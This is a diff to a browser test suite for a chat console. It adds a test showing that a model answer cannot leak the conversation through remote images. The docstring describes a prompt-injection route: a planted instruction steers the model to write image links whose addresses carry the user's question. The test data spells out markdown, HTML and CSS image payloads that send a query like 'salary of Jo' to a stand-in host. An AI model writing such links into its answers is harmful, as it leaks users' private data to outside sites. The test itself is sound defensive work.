@@ -7,10 +7,13 @@ which shows what the guard did to it.
 
 from __future__ import annotations
 
+import base64
 import json
 import re
+import threading
 import time
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
 import httpx
@@ -343,6 +346,57 @@ def test_answers_cannot_run_script_in_the_page(
     assert page.evaluate("window.pwned") is None
     assert box.locator("img[onerror], script").count() == 0
     assert box.get_by_test_id("chat-answer").inner_text().startswith("You said: See")
+
+
+@pytest.fixture
+def listening_host() -> Iterator[tuple[str, list[str]]]:
+    """Another origin on loopback that records each path the browser asks it for."""
+    asked: list[str] = []
+
+    class Recorder(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "image/gif")
+            self.end_headers()
+            self.wfile.write(base64.b64decode("R0lGODlhAQABAAAAACw="))
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{httpd.server_address[1]}", asked
+    httpd.shutdown()
+    httpd.server_close()
+
+
+def test_an_answer_cannot_send_the_conversation_to_another_site(
+    new_page: Any,
+    server: Server,
+    console_org: Org,
+    chat_org: dict[str, str],
+    listening_host: tuple[str, list[str]],
+) -> None:
+    """A model steered by a planted instruction can write a remote image whose address
+    carries what the user asked; shown in the page, the browser fetched it with no click
+    (DOMPurify keeps images). The console's pages now load images, media and fonts from
+    their own origin only (console/page_policy.py): the answer shows, nothing is fetched."""
+    host, asked = listening_host
+    leak = (
+        f"![chart]({host}/markdown.png?q=salary+of+Jo) "
+        f'<img src="{host}/html.png?q=salary"> '
+        f'<span style="background-image: url({host}/style.png)">x</span>'
+    )
+    page, box = _echo_answer(new_page, server, console_org, leak)
+    page.wait_for_timeout(1000)  # time for the browser to fetch what it was allowed to
+    assert box.get_by_test_id("chat-answer").inner_text().startswith("You said:")
+    assert box.locator("img").count() == 2  # shown as broken images, not fetched
+    assert asked == []
+    policy = httpx.get(server.base_url + "/chat", follow_redirects=True).headers
+    assert "img-src 'self' data: blob:" in policy["content-security-policy"]
+    assert policy["referrer-policy"] == "same-origin"
 
 
 def test_chinese_page_and_question(
